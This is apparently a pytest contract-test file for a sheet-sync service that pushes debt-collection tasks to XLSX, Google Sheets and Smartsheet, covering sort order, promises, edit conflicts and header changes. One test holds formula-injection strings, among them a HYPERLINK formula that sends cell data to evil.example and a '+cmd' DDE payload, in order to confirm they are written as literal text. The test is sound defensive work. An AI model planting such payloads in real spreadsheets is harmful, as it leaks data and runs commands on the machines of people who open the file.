"""One set of sheet scenarios, run against local XLSX, Google Sheets (fake) and Smartsheet
(fake) through the real client libraries."""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlalchemy as sa

from hub.ledger.tables import customers
from hub.ledger.tables import events
from hub.ledger.tables import promises
from tests.contract.conftest import ANN
from tests.contract.conftest import BOB
from tests.contract.conftest import BOOK
from tests.contract.conftest import Rig
from tests.contract.conftest import add_account
from tests.contract.conftest import sqlite_copy


@pytest.fixture
def database_url(tmp_path: Path, sqlite_template: Path) -> str:
    return sqlite_copy(tmp_path, sqlite_template)


def _kinds(rig: Rig, code: str) -> list[str]:
    with rig.hub.engine.connect() as connection:
        return list(connection.execute(
            sa.select(events.c.kind).join(customers, customers.c.id == events.c.customer_id)
            .where(customers.c.code == code).order_by(events.c.id)).scalars())


def test_first_sync_gives_each_owner_a_tab_in_priority_order(rig: Rig) -> None:
    report = rig.sync()

    assert report.errors == []
    ann = rig.side.rows(BOOK, ANN)
    assert [row["key"] for row in ann] == ["A1", "A2", "A3"]  # oldest debt first
    assert ann[0]["customer"] == "Customer A1"
    assert (ann[0]["balance"], ann[0]["currency"]) == ("100.00", "EUR")
    assert ann[0]["status"] == "open"
    assert [row["key"] for row in rig.side.rows(BOOK, BOB)] == ["B2", "B1"]


def test_second_sync_without_changes_writes_nothing(rig: Rig) -> None:
    rig.sync()
    report = rig.sync()

    assert report.total("written") == 0
    assert report.total("edits") == 0


def test_done_closes_the_task_and_an_emptied_tab_says_nothing_left_to_do(rig: Rig) -> None:
    rig.sync()
    for key in ("B1", "B2"):
        rig.side.edit(BOOK, BOB, key, "status", "done")

    report = rig.sync()

    assert report.errors == []
    assert "account.completed" in _kinds(rig, "B1")
    rows = rig.side.rows(BOOK, BOB)
    assert len(rows) == 1
    assert rows[0]["customer"].startswith("Nothing left to do (last check 2026-11-23")
    assert [row["key"] for row in rig.side.rows(BOOK, ANN)] == ["A1", "A2", "A3"]


def test_promise_date_and_amount_record_a_promise(rig: Rig) -> None:
    rig.sync()
    rig.side.edit(BOOK, ANN, "A2", "promise_date", "2026-12-10")
    rig.side.edit(BOOK, ANN, "A2", "promise_amount", "150,50")

    report = rig.sync()

    assert report.total("actions") == 1, report.books[0].problems
    with rig.hub.engine.connect() as connection:
        promise = connection.execute(sa.select(promises)).one()
    assert promise.amount_minor == 15050
    assert str(promise.due_date) == "2026-12-10"
    row = next(row for row in rig.side.rows(BOOK, ANN) if row["key"] == "A2")
    assert row["status"] == "promised"


def test_a_bad_cell_is_reported_with_its_place_and_kept_for_fixing(rig: Rig) -> None:
    rig.sync()
    rig.side.edit(BOOK, ANN, "A1", "snooze_until", "next friday")

    report = rig.sync()

    problems = report.books[0].problems
    assert any("Sales / ann@example.com / A1" in p and "next friday" in p for p in problems)
    row = next(row for row in rig.side.rows(BOOK, ANN) if row["key"] == "A1")
    assert row["snooze_until"] == "next friday"


def test_sorting_deleting_and_typing_into_computed_columns_loses_no_edit(rig: Rig) -> None:
    rig.sync()
    rig.side.edit(BOOK, ANN, "A3", "note", "called, will pay Friday")
    rig.side.sort_reverse(BOOK, ANN)
    rig.side.delete(BOOK, ANN, "A1")
    rig.side.edit(BOOK, ANN, "A2", "balance", "0.00")

    report = rig.sync()

    assert report.errors == []
    rows = rig.side.rows(BOOK, ANN)
    assert [row["key"] for row in rows] == ["A1", "A2", "A3"]  # order and row put right
    assert rows[1]["balance"] == "200.00"  # the hub wins on computed columns
    assert rows[2]["note"] == "called, will pay Friday"  # the person's edit stays
    assert "note.added" in _kinds(rig, "A3")
    assert "sheet.conflict" in _kinds(rig, "A2")  # the typed value is on the timeline
    report = rig.sync()
    assert report.total("edits") == 0
    assert report.total("conflicts") == 0


def test_rows_added_without_a_key_are_left_alone_and_reported(rig: Rig) -> None:
    rig.sync()
    rig.side.add_unkeyed(BOOK, ANN, "remember: ask about the Q4 order")

    report = rig.sync()

    assert report.total("unkeyed") == 1
    assert any("no key" in notice for notice in report.books[0].notices)
    assert report.books[0].problems == []
    notes = [row["note"] for row in rig.side.rows(BOOK, ANN)]
    assert "remember: ask about the Q4 order" in notes


def test_hostile_text_is_written_as_literal_text(rig: Rig) -> None:
    hostile = '=HYPERLINK("http://evil.example/"&A1,"click")'
    add_account(rig.hub, "X1", ANN, name=hostile, due="2026-06-01")
    rig.sync()
    rig.side.edit(BOOK, ANN, "X1", "note", "+1-555-0100 call back")
    rig.sync()
    row = next(row for row in rig.side.rows(BOOK, ANN) if row["key"] == "X1")

    assert row["customer"] == hostile
    assert row["note"] == "+1-555-0100 call back"
    assert rig.side.is_literal(BOOK, ANN, "X1", "customer")
    assert rig.side.is_literal(BOOK, ANN, "X1", "note")
    for number, name in enumerate(("-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0")):
        add_account(rig.hub, f"H{number}", BOB, name=name, due="2026-06-02")
    rig.sync()
    for number, name in enumerate(("-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0")):
        row = next(row for row in rig.side.rows(BOOK, BOB) if row["key"] == f"H{number}")
        assert row["customer"] == name
        assert rig.side.is_literal(BOOK, BOB, f"H{number}", "customer")


def test_a_person_and_the_hub_changing_one_column_the_person_wins_on_the_timeline(
        rig: Rig) -> None:
    from datetime import date
    from decimal import Decimal

    from hub.domain.money import Money
    from hub.services.accounts.promises import record_promise
    rig.sync()
    rig.side.edit(BOOK, ANN, "A1", "status", "contacted")
    with rig.hub.engine.begin() as connection:  # meanwhile the debtor promises in the portal
        record_promise(connection, customer_code="A1", amount=Money(Decimal("80.00"), "EUR"),
                       due_date=date(2026, 12, 5), actor="portal", source="portal",
                       now=rig.hub.clock.now())

    rig.sync()

    row = next(row for row in rig.side.rows(BOOK, ANN) if row["key"] == "A1")
    assert row["status"] == "contacted"  # the person's value stands
    assert (row["promise_date"], row["promise_amount"]) == ("2026-12-05", "80.00")
    assert "account.contacted" in _kinds(rig, "A1")
    assert "sheet.conflict" in _kinds(rig, "A1")
    assert rig.sync().total("conflicts") == 0  # settled: not reported again
    row = next(row for row in rig.side.rows(BOOK, ANN) if row["key"] == "A1")
    assert row["status"] == "contacted"  # and the person's value keeps standing


def test_a_promise_recorded_elsewhere_shows_on_the_sheet_and_is_no_edit(rig: Rig) -> None:
    from datetime import date
    from decimal import Decimal

    from hub.domain.money import Money
    from hub.services.accounts.promises import record_promise
    rig.sync()
    with rig.hub.engine.begin() as connection:
        record_promise(connection, customer_code="B1", amount=Money(Decimal("25.00"), "EUR"),
                       due_date=date(2026, 12, 1), actor="portal", source="portal",
                       now=rig.hub.clock.now())

    first = rig.sync()
    again = rig.sync()

    row = next(row for row in rig.side.rows(BOOK, BOB) if row["key"] == "B1")
    assert (row["status"], row["promise_date"], row["promise_amount"]) == (
        "promised", "2026-12-01", "25.00")
    assert first.total("edits") == 0
    assert again.total("edits") == 0
    assert again.total("written") == 0


def test_a_header_language_switch_reads_no_phantom_edits(rig: Rig) -> None:
    from sync.sheets.layout import load_layout
    rig.sync()
    rig.layout = load_layout(language="nl")  # finance switched HUB_SHEETS_LANGUAGE
    rig.side.layout = rig.layout  # type: ignore[attr-defined]  # and people see Dutch headers

    report = rig.sync()

    assert report.total("edits") == 0
    assert report.total("conflicts") == 0
    if rig.side.name != "smartsheet":  # Smartsheet columns are renamed in place
        assert any("column headers were changed" in notice
                   for notice in report.books[0].notices)
    assert "account.completed" not in _kinds(rig, "A1")
    assert rig.side.rows(BOOK, ANN)[0]["status"] == "open"
    assert rig.sync().total("edits") == 0
